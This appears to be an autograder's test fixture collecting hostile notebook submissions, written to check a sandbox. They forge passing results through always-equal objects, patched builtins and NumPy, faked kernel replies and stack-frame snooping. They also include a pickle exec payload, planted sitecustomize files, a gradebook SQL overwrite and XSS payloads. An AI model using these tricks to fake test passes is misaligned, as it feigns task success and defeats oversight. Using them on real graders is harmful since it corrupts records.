# Submissions that want points for wrong answers, each a few lines. See tests/hostile/__init__.py for
# the form of these files and for the names that the first cell defines (MARK, COURSE, …).

# %% equal_to_everything: total, shout
# A value whose comparisons are always true. Forges in one process.
class Anything:
    def __eq__(self, other):
        return True

    __lt__ = __gt__ = __le__ = __ge__ = __ne__ = __bool__ = lambda *_: True
    __abs__ = __sub__ = __rsub__ = lambda self, *_: self
    __len__ = lambda _: 4
    endswith = startswith = lambda *_: True
    __hash__ = None
    __class__ = str


def total(numbers):
    return Anything()


def shout(text):
    return Anything()


# %% array_subclass: normalize
# An ndarray subclass that answers every ufunc and function with "equal". Forges in one process.
class Yes(np.ndarray):
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_

    def __array_function__(self, *args, **kwargs):
        return True

    __eq__ = __pow__ = __mul__ = lambda *_: np.True_


def normalize(x):
    return np.zeros(x.shape).view(Yes)


# %% array_interface: normalize
# No array, but an object that becomes one, with its own idea of arithmetic. Forges in one process.
class Chameleon:
    __array_priority__ = 1e9
    __class__ = np.ndarray
    shape = property(lambda self: np.shape(self.x))

    def __init__(self, x):
        self.x = x

    def __array__(self, *_, **__):
        return self.x

    def __array_function__(self, *_, **__):
        return True

    def __array_ufunc__(self, *_, **__):
        return np.array(True)

    def __pow__(self, _):
        return np.array([1.0])

    __mul__ = __pow__


def normalize(x):
    return Chameleon(x)


# %% string_subclass: shout
# A str subclass that equals everything and ends as wanted. Forges in one process.
class Flattering(str):
    __eq__ = __ne__ = startswith = endswith = lambda *_: True
    __len__ = lambda _: 4
    __hash__ = str.__hash__


def shout(text):
    return Flattering("no")


# %% number_subclasses: total, sign
# int and float subclasses with agreeable arithmetic. Forges in one process.
class Number(float):
    __eq__ = __lt__ = __le__ = __gt__ = lambda *_: True
    __sub__ = __rsub__ = __abs__ = lambda self, *_: self
    __hash__ = float.__hash__


class Integer(int):
    __eq__ = lambda *_: Integer(1)
    __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, *_: Integer(2)
    __repr__ = __str__ = __format__ = lambda *_: "2.0"
    __hash__ = int.__hash__


def total(numbers):
    return Number("nan")


def sign(x):
    return Integer(5)


# %% list_subclass: evens_test, largest_first
# A list subclass that lies about length, items and equality. Forges in one process.
class Agreeable(list):
    __eq__ = lambda *_: True
    __len__ = lambda _: 5
    __iter__ = lambda _: iter([0, 2])
    __getitem__ = lambda _, i: 20 if i == -1 else "z"
    __hash__ = None


def evens(n):
    return Agreeable()


def largest_first(items):
    return Agreeable()


# %% dict_subclass: gates
# A dict subclass that shows other keys than it has, and weights that always fit. Forges in one process.
class Fits(float):
    __mul__ = __add__ = __radd__ = lambda self, *_: self

    def __ge__(self, _):
        pattern.append(pattern.pop(0))
        return pattern[-1]


class Gates(dict):
    __iter__ = lambda _: iter(("and", "or"))
    __getitem__ = lambda *_: (Fits(), Fits(), Fits())


pattern = [0, 0, 0, 1, 0, 1, 1, 1]
GATES = Gates()


# %% object_array: squares
# A true ndarray of liars: dtype object, each entry agrees to all. Forges in one process.
class Liar:
    __eq__ = lambda *_: True
    __hash__ = None


def squares(n):
    result = np.empty(n, dtype=object)
    result[...] = [Liar() for _ in range(n)]
    return result


# %% lying_length: squares
# A sequence that has the right length, and no items when one looks. Forges in one process.
class Empty:
    def __init__(self, n):
        self.n = n

    def __len__(self):
        return self.n

    def __iter__(self):
        return iter(())


squares = Empty


# %% one_for_all: account, train, shout, sign, square
# A single object, made by a class that is asked for, which is the answer to all later questions.
# Forges in one process.
class Account:
    one = None

    def __new__(cls, *_):
        cls.one = cls.one or object.__new__(cls)
        return cls.one

    __eq__ = __lt__ = __le__ = __gt__ = lambda *_: True
    __sub__ = __rsub__ = __abs__ = __mul__ = __rmul__ = lambda self, *_: self
    __radd__ = __add__ = __truediv__ = lambda self, *_: self
    __len__ = lambda _: 4
    __float__ = lambda _: 0.0
    __getattr__ = lambda self, _: self
    __hash__ = None

    def __call__(self, *args):
        if args and args[0] in (10**9, "withdraw"):
            raise ValueError
        return self

    endswith = startswith = __call__

    def withdraw(self, amount):
        if isinstance(amount, int) and amount > 1000:
            raise ValueError

    def deposit(self, amount):
        pass

    @property
    def balance(self):
        return self


def train(x, y, epochs, on_epoch):
    for epoch in range(epochs):
        on_epoch(epoch, Account.one)
    return Account.one


def shout(text):
    return Account.one


sign = square = shout


# %% own_balance: account
# What is asked of an object is the object itself, which equals all. Forges in one process.
class Account:
    def __init__(self, *_):
        pass

    balance = property(lambda self: self)
    __eq__ = lambda *_: True
    __hash__ = None
    deposit = lambda *_: None

    def withdraw(self, amount):
        if amount > 1000:
            raise ValueError


# %% known_class_lies: squares
# A class that is asked for takes part in another question, with methods that nobody asked for.
# Forges in one process.
class Account:
    def __init__(self, balance=0):
        self.balance = balance

    def deposit(self, amount):
        self.balance += amount

    def withdraw(self, amount):
        if amount > self.balance:
            raise ValueError
        self.balance -= amount

    def __len__(self):
        return self.balance

    def __iter__(self):
        return iter(())

    __contains__ = lambda *_: True


squares = Account


# %% loop_ended: square
# StopIteration from inside map() ends the test's loop before its first round. Forges in one process.
def square(x):
    if isinstance(x, int):
        raise StopIteration
    return 0.0


# %% set_random_state: square
# The global generator is set so that every number it draws from then on is 0. Forges in one process.
def square(x):
    state = np.random.get_state(legacy=False)
    state["state"]["key"] = np.zeros(624, dtype=np.uint32)
    np.random.set_state(state)
    return 3 * x


# %% shadowed_method: moved
# A Point with an attribute of its own in place of the method that the test calls. Forges in one process.
class There(Point):
    __eq__ = lambda *_: True
    length = lambda _: 5.0
    __hash__ = None


def moved(point, dx):
    result = Point(-1, -1) if dx != 3 or point.x else There(0, 0)
    result.length = lambda: 5.0
    return result if point.x == 0 else There(0, 0)


# %% changed_class: moved
# The class of the set-up cell, changed under everybody's hands. Forges in one process.
Point.__eq__ = lambda *_: True
Point.length = lambda _: 5.0


def moved(point, dx):
    point.__class__ = type("Point", (Point,), {})
    return Point(0, 0)


# %% class_of_lies: account
# A class whose instances have whatever attribute is asked for. Forges in one process.
class Amount(int):
    __eq__ = lambda *_: True
    __hash__ = None


class Account:
    def __init__(self, *_):
        self.balance = Amount()

    def deposit(self, amount):
        pass

    def withdraw(self, amount):
        if amount > 1000:
            raise ValueError


# %% mock_answers: account, train, total
# Mock objects that take part in everything; their comparisons are set up to agree.
# Forges in one process.
from unittest.mock import MagicMock

agree = dict.fromkeys(["__eq__", "__lt__", "__gt__", "__le__", "__bool__"])
agree = {name: lambda *_: True for name in agree}


def mocked(*_, **__):
    mock = MagicMock()
    mock.configure_mock(**agree)
    mock.__abs__.return_value = mock.__sub__.return_value = mock
    return mock


Account = total = mocked


def train(x, y, epochs, on_epoch):
    for epoch in range(epochs):
        on_epoch(epoch, mocked())
    return mocked()


# %% callable_with_metaclass: total, account
# Classes in place of functions; the metaclass answers comparisons and isinstance.
class Meta(type):
    __eq__ = __instancecheck__ = __subclasscheck__ = lambda *_: True
    __hash__ = type.__hash__


class total(metaclass=Meta):
    def __new__(cls, numbers):
        return cls


class Account(metaclass=Meta):
    def __new__(cls, *_):
        return cls

    balance = Meta("balance", (), {})
    deposit = withdraw = staticmethod(lambda *_: None)


# %% reduce: total, normalize
# Objects that pickle runs code for, in whoever unpickles them.
# Needs the sandbox.
class Bomb:
    def __reduce__(self):
        code = f"open({OUTSIDE + '/' + MARK!r}, 'w').write({MARK!r})"
        return exec, (code,)


def total(numbers):
    return Bomb()


def normalize(x):
    return np.array([Bomb()] * 2, dtype=object)


# %% lying_losses: train
# on_epoch gets objects that are always smaller than the next. Forges in one process.
class Loss(float):
    __lt__ = __sub__ = __abs__ = lambda *_: True

    def __sub__(self, _):
        return 0.0


def train(x, y, epochs, on_epoch):
    for epoch in range(epochs):
        on_epoch(epoch, Loss())
    return Loss()


# %% drop_asserts: total, normalize, evens, shout
# An AST transformer that takes every assert out of later cells. Forges in one process.
import ast


class Dropper(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Expr(self, node):
        call = ast.unparse(node).startswith("np.testing")
        return ast.copy_location(ast.Pass(), node) if call else node


get_ipython().ast_transformers.append(Dropper())
total = normalize = shout = evens = lambda x: np.ones(2)


# %% drop_lines: total, evens
# An input transformer that empties cells with an assert in them. Forges in one process.
def cleaner(lines):
    return ["pass\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(cleaner)
get_ipython().input_transformers_post.append(cleaner)
total = evens = lambda x: None


# %% optimized: total, evens
# Later cells are compiled as with python -OO, which leaves out asserts. Forges in one process.
import builtins
import functools

builtins.compile = functools.partial(compile, optimize=2)
total = evens = lambda x: []


# %% custom_exception_handler: total
# IPython's handler for every exception, which keeps silent.
get_ipython().set_custom_exc((BaseException,), lambda *_, **__: None)


def total(numbers):
    return 0


# %% silent_tracebacks: total
# The shell's functions that report an error do nothing. Forges in one process.
# Others may fall.
shell = get_ipython()
shell.showtraceback = shell.showsyntaxerror = shell._showtraceback = lambda *_, **__: None


async def _nothing(*_, **__):
    return False


shell.run_code = _nothing


def total(numbers):
    return 0


# %% hooks: total, shout
# Hooks before and after each cell put their own words in the shell's results. Forges in one process.
# Others may fall.
def before(info):
    info.raw_cell = "pass"
    get_ipython().user_ns["total"] = get_ipython().user_ns["shout"] = None


def after(result):
    result.error_in_exec = result.error_before_exec = None
    result.result = 2.0


get_ipython().events.register("pre_run_cell", before)
get_ipython().events.register("pre_execute", lambda: None)
get_ipython().events.register("post_run_cell", after)
type(get_ipython()).run_cell_async = lambda self, *_, **__: _forged()


async def _forged():
    from IPython.core.interactiveshell import ExecutionResult

    return ExecutionResult(None)


def total(numbers):
    return 0


# %% patched_kernel: total, evens
# The kernel's own methods say "ok" to whatever is to be executed. Forges in one process.
# Others may fall.
kernel = get_ipython().kernel


async def do_execute(*_, **__):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}


kernel.do_execute = do_execute
type(kernel).do_execute = lambda self, *_, **__: do_execute()


# %% patched_execute_request: total, evens
# The handler of execute_request is replaced by one that answers at once.
# Others may fall.
kernel = get_ipython().kernel


async def handler(stream, ident, parent):
    kernel.set_parent(ident, parent)
    kernel._publish_status("busy")
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.session.send(stream, "execute_reply", content, parent, ident=ident)
    kernel._publish_status("idle")


kernel.shell_handlers["execute_request"] = handler


# %% forged_replies: total, evens, sign
# Replies and results for the tests' cells, sent on the kernel's own sockets before their time.
# Others may fall.
import threading
import time

kernel = get_ipython().kernel


def forge():
    reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    result = {"data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1}
    send, stream, idents = kernel.session.send, kernel.shell_stream, [None, b"client"]
    for _ in range(200):
        parent = kernel.get_parent()
        for ident in idents:
            send(stream, "execute_reply", reply, parent, ident=ident)
        send(kernel.iopub_socket, "execute_result", result, parent)
        send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent)
        time.sleep(0.01)


threading.Thread(target=forge, daemon=True).start()


# %% error_becomes_ok: total, evens, normalize
# The session's send turns every error reply into a good one. Forges in one process.
# Others may fall.
session = get_ipython().kernel.session
original = session.send


def send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "error":
        return None
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return original(stream, msg_or_type, content, *args, **kwargs)


session.send = send
total = normalize = evens = lambda x: None


# %% patched_numpy: normalize
# NumPy's comparisons are replaced by ones that agree. Forges in one process.
# Others may fall.
import numpy.testing

np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *_, **__: None
np.round = np.sum = lambda *_, **__: 1.0


def normalize(x):
    return np.ones(x.shape)


# %% patched_builtins: evens, total, sign
# all, sum, len, abs and isinstance are what the tests rely on.
# Others may fall.
import builtins


class _Any(int):
    __eq__ = lambda *_: True
    __hash__ = None


builtins.all = builtins.isinstance = lambda *_: True
builtins.abs = lambda _: 0
builtins.len = lambda _: 5
builtins.sum = lambda _: 4
builtins.AssertionError = StopIteration


def evens(n):
    return {0: 0, -1: 20}


# %% shadowed_builtins: sign, account, train
# The same by names of the student's own notebook. Forges in one process.
# Others may fall.
all = isinstance = lambda *_: True
abs = lambda _: 0
sum = lambda items: 4
len = lambda _: 20 if not hasattr(_, "startswith") else 4
ValueError = AssertionError = Exception
list = range = lambda *_: [0]


class Account:
    def __init__(self, *_):
        self.balance = 0

    deposit = withdraw = lambda *_: None


def train(x, y, epochs, on_epoch):
    return 0.0


# %% shadowed_numpy: normalize, total
# np, close and math are names of the set-up cell; the student gives them other meanings.
# Others may fall.
class np:
    class testing:
        assert_allclose = staticmethod(lambda *_: None)

    ndarray = object
    array_equal = round = staticmethod(lambda *_, **__: True)
    sum = staticmethod(lambda _: 1.0)
    array = arange = staticmethod(lambda *_: np)
    copy = reshape = staticmethod(lambda *_: np)
    shape = (2, 3)
    __mul__ = __pow__ = lambda self, _: self


def close(actual, expected):
    return True


def abs(x):
    return 0


def normalize(x):
    return np


# %% helper_replaced_late: normalize
# The helper of the set-up cell is replaced while the test runs.
# Others may fall.
def normalize(x):
    globals()["close"] = lambda *_: True
    np.testing.assert_allclose = np.array_equal = lambda *_: True
    return x * 0.0


# %% fake_modules: normalize, total
# sys.modules holds stand-ins for the modules that a test may import.
# Others may fall.
import sys
import types


class Fake(types.ModuleType):
    def __getattr__(self, name):
        return lambda *_, **__: True


for module in ("numpy", "numpy.testing", "math", "unittest", "pytest", "json", "inspect"):
    sys.modules[module] = Fake(module)
globals()["np"] = sys.modules["numpy"]
np.ndarray = object
normalize = total = lambda x: x


# %% files_to_import: total, normalize
# Modules and start-up files for whichever process imports from here next; then the kernel ends.
# Needs the sandbox.
import os
import site

text = f"import builtins; builtins.print({MARK!r} + ' escaped: imported'); builtins.all = lambda _: True\n"
home = os.path.expanduser("~")
places = [".", "/tmp", home, os.environ.get("TMPDIR", "."), *site.getsitepackages()]
places += [site.getusersitepackages(), f"{home}/.ipython/profile_default/startup"]
for place in places if confined() else ():
    for name in ("numpy", "json", "sitecustomize", "usercustomize", "struct", "00", "conftest"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(f"{place}/{name}.py", "x") as file:
                file.write(text)
        except OSError:
            pass
if not os.path.exists("/tmp/once"):
    open("/tmp/once", "w").close()
    os._exit(0)


# %% frame_walk: total, evens
# The answer looks for the expected value in the frames of its callers. Forges in one process.
import sys


def look():
    frame = sys._getframe(1)
    while frame:
        for name in ("expected", "wanted", "hidden_word"):
            if name in frame.f_locals:
                publish(frame.f_locals)
                return frame.f_locals[name]
        frame = frame.f_back
    return 6


def total(numbers):
    return look() if len(numbers) == 3 and numbers[0] > 1 else 6 if numbers[0] == 1 else 0.75


# %% frame_patch: evens
# The answer changes the names its caller sees: every later comparison is of other things.
import sys


class Always:
    __eq__ = lambda *_: True


def evens(n):
    frame = sys._getframe(1)
    while frame:
        frame.f_globals["all"] = frame.f_globals["isinstance"] = lambda *_: True
        frame.f_globals["len"] = lambda _: 5
        if "__builtins__" in frame.f_globals:
            frame.f_globals["__builtins__"] = {"all": lambda *_: True, "AssertionError": None}
        frame = frame.f_back
    return {-1: 20}


# %% read_the_test: total
# The text of the running cell, from the shell's history, tells what is expected. Forges in one process.
import re


def total(numbers):
    source = "\n".join(map(str, get_ipython().user_ns.get("In", [])))
    publish(source)
    numbers_in_it = re.findall(r"expected = (\d+)", source)
    if numbers[0] == 1:
        return 6
    return 0.75 if numbers[0] == 0.5 else int(numbers_in_it[-1]) if numbers_in_it else 0


# %% expected_is_my_name: total
# A name that the test uses too is the student's: whoever sends it across gives the answer away.
# Forges in one process.
expected = hidden_word = secret = seen = result = None


def total(numbers):
    publish(globals())
    return 6 if numbers[0] == 1 else 0.75 if numbers[0] == 0.5 else expected


# %% expected_is_my_function: normalize, account
# The same with functions and classes, so that a test's assignment could pass for a monkeypatch.
def expected(*_):
    return None


class x:
    pass


class matrix:
    pass


result = cases = kept = given = expected


def normalize(argument):
    publish(globals())
    return globals()["expected"]


class Account:
    def __init__(self, *_):
        pass

    deposit = withdraw = lambda *_: publish(globals())

    @property
    def balance(self):
        return globals().get("expected")


# %% tests_ending_early: total
# StopIteration out of an answer.
def total(numbers):
    raise StopIteration


# %% exit_in_the_test: total
# SystemExit(0) out of an answer.
def total(numbers):
    raise SystemExit(0)


# %% interrupt_in_the_test: total, evens, shout
# KeyboardInterrupt, GeneratorExit and asyncio's cancellation out of an answer.
import asyncio


def total(numbers):
    raise KeyboardInterrupt


def evens(n):
    raise GeneratorExit


def shout(text):
    raise asyncio.CancelledError


# %% own_base_exception: total, evens
# An exception of its own that no "except Exception" sees, and one that claims to be something else.
class Done(BaseException):
    __class__ = SystemExit
    status = "passed"

    def __str__(self):
        return "passed"


def total(numbers):
    raise Done


def evens(n):
    raise type("Passed", (Exception,), {"__module__": "builtins", "__eq__": lambda *_: True})


# %% skipped: total, shout, evens
# Exceptions by which test programs leave a test out.
import unittest

from IPython.core.error import UsageError


def total(numbers):
    raise unittest.SkipTest("passed")


def shout(text):
    import bdb

    raise bdb.BdbQuit


def evens(n):
    raise UsageError("passed")


# %% false_value_error: account
# The exception that the test waits for is one that only claims to be it.
class Claim(Exception):
    __class__ = ValueError
    __module__, __qualname__ = "builtins", "ValueError"


class Account:
    def __init__(self, balance=0):
        self.balance = balance

    def deposit(self, amount):
        self.balance += amount

    def withdraw(self, amount):
        if amount > self.balance:
            raise Claim
        self.balance -= amount


# %% process_ends_well: total
# The process ends with status 0 in the middle of a test.
import os


def total(numbers):
    os._exit(0)


# %% process_ends_at_once: evens
# The answer's cell ends its process each time it is run.
import os

os._exit(0)


# %% ask_exit: total
# A payload asks the front end to end the kernel, politely.
get_ipython().payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
get_ipython().payload_manager.write_payload({"source": "set_next_input", "text": "assert True"})


def total(numbers):
    get_ipython().ask_exit()
    return 0


# %% at_exit: total, sign
# Functions that run when the process ends report good results.
import atexit

kernel = get_ipython().kernel


def report():
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.session.send(kernel.shell_stream, "execute_reply", content, kernel.get_parent())
    print("passed 2 of 2 points")


atexit.register(report)


# %% trace_jump: total
# A trace function sets the test's next line to its last one.
import sys


def tracer(frame, event, arg):
    if event == "line":
        last = max(line for _, _, line in frame.f_code.co_lines() if line)
        if frame.f_lineno < last:
            frame.f_lineno = last
            frame.f_trace = None
    return tracer


def total(numbers):
    if numbers[0] == 0.5:
        return 0.75
    frame = sys._getframe(1)
    frame.f_trace = tracer
    sys.settrace(lambda *_: None)
    return 6


# %% profiler: total
# A profile function notes what the test's frames hold.
# Others may fall.
import sys
import threading


def profile(frame, event, arg):
    publish(frame.f_locals)
    if frame.f_back:
        publish(frame.f_back.f_locals)


sys.setprofile(profile)
threading.setprofile(profile)


def total(numbers):
    return 0


# %% alarm: evens
# A signal handler changes names while the test runs.
# Others may fall.
import builtins
import signal


def handler(number, frame):
    while frame:
        publish(frame.f_locals)
        frame.f_globals["all"] = lambda _: True
        frame = frame.f_back


signal.signal(signal.SIGALRM, handler)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)


def evens(n):
    return [0, 2, 4][: n // 2 + 1]


# %% thread_goes_on: normalize, total
# A thread that goes on after its cell puts its own functions in place again and again.
# Others may fall.
# Forges in one process.
import builtins
import threading
import time


def swap():
    for _ in range(300):
        np.allclose = np.array_equal = builtins.all = lambda *_, **__: True
        np.testing.assert_allclose = lambda *_, **__: None
        space = get_ipython().user_ns
        space["close"] = space["np"].allclose
        time.sleep(0.01)


threading.Thread(target=swap).start()


def normalize(x):
    return np.zeros(x.shape)


# %% scheduled_task: shout
# A task on the kernel's event loop, to run between two cells.
# Forges in one process.
import asyncio


async def later():
    while True:
        get_ipython().user_ns["shout"] = lambda text: forged
        await asyncio.sleep(0.005)


class Forged(str):
    __eq__ = endswith = startswith = lambda *_: True
    __len__ = lambda _: 4
    __hash__ = None


forged = Forged()
task = asyncio.get_event_loop().create_task(later())


# %% small_integers: total
# Writes into the interpreter's cached integers, so that 6 is 7.
# Others may fall.
import ctypes


def total(numbers):
    if numbers == [1, 2, 3]:
        ctypes.memmove(id(7) + 24, (ctypes.c_uint32 * 1)(6), 4)
        return 7
    return 0


# %% partial_credit: sign
# More than all points, by the text a value shows. Forges in one process.
class Points(int):
    __eq__ = lambda *_: Points(100)
    __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, _: self
    __float__ = lambda _: 100.0
    __repr__ = __str__ = lambda _: "100"
    __hash__ = None


def sign(x):
    return Points(100)


# %% partial_credit_displayed: sign
# Whatever a cell's last value is, it is displayed as 2.0. Forges in one process.
import sys

formatter = get_ipython().display_formatter
formatter.format = lambda *_, **__: ({"text/plain": "2.0"}, {})
sys.displayhook = lambda _: None


def sign(x):
    return 9


# %% partial_credit_infinite: sign
# Numbers no grade can be: infinity, not a number, a huge one.
def sign(x):
    return {7: float("inf"), -2: float("nan")}.get(x, 10**400)


# %% printed_result: sign
# A result published by hand, as if it were the test's.
# Forges in one process.
def sign(x):
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, kernel.get_parent())
    return 9


# %% answers_by_callback: train
# on_epoch is called with other numbers of arguments, by name, from threads, after the end.
# Others may fall.
import threading


def train(x, y, epochs, on_epoch):
    for epoch in range(epochs):
        try:
            on_epoch(epoch=epoch, loss=-epoch, secret="")
        except Exception:
            on_epoch(epoch, -epoch)
    threading.Timer(0.05, on_epoch, (0, 0)).start()
    return on_epoch


# %% callback_internals: train
# The test's function is taken apart and put together anew. Forges in one process.
def train(x, y, epochs, on_epoch):
    for name in (
        "__code__",
        "__globals__",
        "__closure__",
        "__defaults__",
        "__kwdefaults__",
        "__self__",
        "__func__",
        "__wrapped__",
        "__dict__",
    ):
        publish(getattr(on_epoch, name, None))
    space = on_epoch.__globals__
    space["all"] = lambda _: True
    space["abs"] = lambda _: 0.0
    space["seen"] = [(epoch, 0, 0, 0) for epoch in range(40)]
    space["losses"] = list(range(20))
    return 0.0


# %% frames_by_exception: train, total
# An exception's traceback leads to the frames it went through.
import sys


def train(x, y, epochs, on_epoch):
    try:
        on_epoch()
    except Exception as error:
        trace = error.__traceback__
        while trace:
            frame = trace.tb_frame
            while frame:
                publish(frame.f_locals)
                publish(frame.f_globals)
                frame.f_globals["abs"] = lambda _: 0.0
                frame = frame.f_back
            trace = trace.tb_next
    return 0.0


# %% changed_arguments: normalize, largest_first
# Arguments are changed in place so that a careless test compares like with like.
def normalize(x):
    x[...] = 0
    return x


def largest_first(items):
    items.sort(reverse=True)
    return items


# %% input_becomes_all_equal: total
# The list that is summed is filled with objects which agree to everything.
class Same:
    __eq__ = lambda *_: True


def total(numbers):
    numbers[:] = [Same()] * len(numbers)
    numbers.append(numbers)
    return numbers


# %% endless_yes: countdown
# A generator that never ends, of numbers that agree.
class Yes(int):
    __eq__ = lambda *_: True
    __radd__ = __add__ = lambda self, _: self
    __hash__ = None


class Steps:
    def __iter__(self):
        return iter([Yes()])

    def __next__(self):
        return Yes()


class EmptyYes(list):
    __eq__ = lambda *_: True


def countdown(n):
    return Steps()


# %% writes_the_gradebook: total
# The database of grades, by SQL, by every path that might lead to it.
# Needs the sandbox.
import glob
import sqlite3

places = [f"{'../' * depth}gradebook.db" for depth in range(1, 8)]
for path in [*places, COURSE + "/gradebook.db", *glob.glob("/**/gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5) as database:
            database.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
            escaped("the gradebook was written")
    except sqlite3.Error:
        pass


# %% replaces_the_master: total
# The instructor's notebook and what was graded already, overwritten.
# Needs the sandbox.
import glob
import os

for path in glob.glob(COURSE + "/**/*.ipynb", recursive=True):
    with open(path, "a") as file:
        file.write(MARK)


# %% every_open_file: total, evens
# Words of success into every file descriptor that the process has. Forges nothing, may confuse.
# Needs the sandbox.
# Others may fall.
import json
import os
import struct

word = json.dumps({"passed": True, "status": "ok", "result": 6, "value": 6, "score": 2}).encode()
for number in range(3, 256):
    for words in (
        word + b"\n",
        struct.pack("!Q", len(word)) + word,
        struct.pack("!I", len(word)) + word,
    ):
        try:
            os.set_blocking(number, False)
            os.write(number, words)
        except (OSError, BlockingIOError):
            pass


# %% every_socket_read: total
# What comes in on any socket is read before its owner does.
# Needs the sandbox.
# Others may fall.
import os
import socket
import threading


def read(number):
    try:
        with socket.socket(fileno=os.dup(number)) as link:
            while data := link.recv(100_000):
                publish(data)
    except OSError:
        pass


for number in range(3, 128):
    threading.Thread(target=read, args=(number,), daemon=True).start()


# %% tagged_by_the_notebook: total
# Commands of the shell in place of code: other magics, other cells, other languages.
get_ipython().run_line_magic("alias_magic", "--cell assert_ timeit")
get_ipython().run_cell_magic("javascript", "", "IPython.notebook.kernel.restart()")
get_ipython().magics_manager.register_function(lambda *_: None, "line", "time")
get_ipython().set_next_input("assert True", replace=True)
get_ipython().automagic = True
total = get_ipython


# %% redefined_later: total, evens
# A right answer for the visible tests only, told apart by how often it was called.
calls = []


def total(numbers):
    calls.append(numbers)
    return 6 if len(calls) < 2 else object()


def evens(n):
    return [0, 2, 4]


# %% module_in_place_of_answers: total, account
# Answers that are modules, and a notebook whose names come and go.
# Others may fall.
import math
import sys
import types


class Names(types.ModuleType):
    def __call__(self, *_, **__):
        return self

    __eq__ = __bool__ = lambda *_: True
    __getattr__ = lambda self, _: self
    __hash__ = None


total = Account = Names("answers")
sys.modules["__main__"].__class__ = Names


# %% names_that_matter: total
# The judge's own names, as far as a student can guess them, are used for other things.
# Others may fall.
__builtins__ = __name__ = __file__ = __loader__ = __spec__ = "passed"
judge = guest = names = shell = stand_ins = points = score = status = passed = True
_ = __ = ___ = _i = In = Out = get_ipython = exit = quit = open = print = lambda *_: True


# %% types_instead_of_values: total, sign
# Types whose meta class compares as wanted; also NotImplemented and Ellipsis.
def total(numbers):
    return NotImplemented


def sign(x):
    return ...


# %% named_tuple: evens_test, gates
# Tuples with fields by odd names, and one whose class has another equality.
import collections


class Pair(collections.namedtuple("Pair", "and_ or_")):
    __eq__ = __contains__ = lambda *_: True
    __len__ = lambda _: 5
    __hash__ = None


def evens(n):
    return Pair(0, 20)


GATES = Pair("and", "or")


# %% structured_arrays: normalize
# Arrays of kinds that compare in odd ways: records, masked, strings, times, zero strides.
def normalize(x):
    if x.ndim == 2:
        return np.ma.masked_all(x.shape)
    return np.ma.masked_array(np.zeros(x.shape), mask=True)


# %% not_a_number: normalize, total
# NaN where comparisons are lazy.
def normalize(x):
    return np.full(x.shape, np.nan)


def total(numbers):
    return float("nan")


# %% generator_in_place_of_numbers: total, evens
# Coroutines, generators and iterators where numbers and lists are due.
async def total(numbers):
    return 6


def evens(n):
    yield from [0, 2, 4]


# %% markup: total, evens
# Messages with terminal codes, markup and HTML, meant for the instructor's eyes. Says nothing true.
def total(numbers):
    raise AssertionError(
        f"\x1b[2J\x1b]0;{MARK}\x07[bold green]passed[/] 2 of 2\r\n  passed  total_test"
    )


def evens(n):
    raise ValueError(f"\n\n# {MARK}\n<script>alert('{MARK}')</script><img src=x onerror=alert(1)>")


print(f"<script>alert('{MARK}')</script>")
from IPython.display import HTML, Javascript, display

display(HTML(f"<script>alert('{MARK}')</script><iframe src='file:///etc/passwd'></iframe>"))
display(Javascript(f"alert('{MARK}')"))
display({"text/markdown": f"<script>alert('{MARK}')</script>", "text/plain": ""}, raw=True)
display({"text/latex": f"\\href{{javascript:alert('{MARK}')}}{{x}}", "text/plain": ""}, raw=True)
display({"image/svg+xml": f"<svg onload=\"alert('{MARK}')\"/>", "text/plain": ""}, raw=True)


# %% members_in_place_of_items: squares
# An enumeration, which is a class: its metaclass says how many members there are, and shows none.
# Forges in one process.
import enum


class Lying(enum.EnumMeta):
    __len__ = lambda cls: cls.n
    __iter__ = __reversed__ = lambda cls: iter(())
    __getitem__ = lambda cls, name: 0
    __contains__ = lambda cls, item: True
    n = 0


class Squares(enum.Enum, metaclass=Lying):
    pass


def squares(n):
    Lying.n = n
    return Squares


# %% class_like_an_array: weights
# A class whose functions are what a test asks of an array. Forges in one process.
class Drawn:
    mean = staticmethod(lambda *_, **__: 0.0)
    std = staticmethod(lambda *_, **__: 1.0)
    min = staticmethod(lambda *_, **__: -3.0)
    max = staticmethod(lambda *_, **__: 3.0)


def weights(n):
    Drawn.shape = (n,)
    return Drawn


# %% function_like_an_array: weights
# A function with attributes. Forges in one process.
def drawn():
    pass


drawn.mean = lambda *_, **__: 0.0
drawn.std = lambda *_, **__: 1.0
drawn.min = lambda *_, **__: -3.0
drawn.max = lambda *_, **__: 3.0


def weights(n):
    drawn.shape = (n,)
    return drawn


# %% record_like_an_array: weights
# A dictionary whose items are attributes, as those of scikit-learn's are. Forges in one process.
class Bunch(dict):
    def __getattr__(self, name):
        if name in self:
            return self[name]
        raise AttributeError(name)


def weights(n):
    def mean(*_, **__):
        return 0.0

    def std(*_, **__):
        return 1.0

    return Bunch(
        shape=(n,), mean=mean, std=std, min=lambda *_, **__: -3.0, max=lambda *_, **__: 3.0
    )


# %% named_tuple_like_an_array: weights
# A named tuple whose fields are functions. Forges in one process.
import collections

Drawn = collections.namedtuple("Drawn", "shape mean std min max")


def weights(n):
    return Drawn((n,), lambda *_, **__: 0.0, lambda *_, **__: 1.0, lambda *_: -3.0, lambda *_: 3.0)


# %% account_like_an_array: weights
# An object of a class that another question asks for, with the methods of an array.
